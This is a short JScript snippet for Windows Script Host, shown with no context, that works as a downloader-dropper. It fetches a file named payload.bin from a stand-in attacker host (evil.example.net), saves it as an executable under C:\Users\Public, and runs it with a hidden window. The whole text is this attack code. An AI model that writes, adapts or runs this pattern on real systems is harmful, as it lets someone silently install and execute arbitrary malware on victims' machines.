var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", "http://evil.example.net/payload.bin", false);
http.send();
var stream = new ActiveXObject("ADODB.Stream");
stream.Type = 1;
stream.Open();
stream.Write(http.responseBody);
stream.SaveToFile("C:\\Users\\Public\\svc.exe", 2);
new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\svc.exe", 0);
